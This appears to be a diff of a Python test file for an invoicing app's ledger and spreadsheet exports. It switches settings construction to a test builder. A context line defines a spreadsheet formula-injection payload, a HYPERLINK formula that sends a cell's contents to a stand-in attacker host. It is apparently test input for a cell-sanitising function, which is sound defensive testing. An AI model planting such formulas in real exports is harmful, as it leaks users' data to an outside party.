@@ -21,7 +21,6 @@ from app.clock import FixedClock
 from app.desk import Desk, build_desk
 from app.errors import Invalid, Refused
 from app.exporting import entry_rows, export, invoice_rows, ledger_invoices
-from app.settings import Settings
 from exports.ledger import (
     LedgerInvoice,
     LedgerPayment,
@@ -32,6 +31,7 @@ from exports.ledger import (
 )
 from exports.tables import safe_cell
 from tests import keyring_service
+from tests.builders import ready_settings
 
 START = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
 HLEDGER = shutil.which("hledger")
@@ -39,7 +39,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
 
 def open_desk(path: Path) -> Desk:
-    settings = Settings.model_validate(
+    settings = ready_settings(
         {
             "business": {"name": "Rivera IT Consulting"},
             "payment": {"bank_details": "First Coastal Bank\nAccount 4401"},
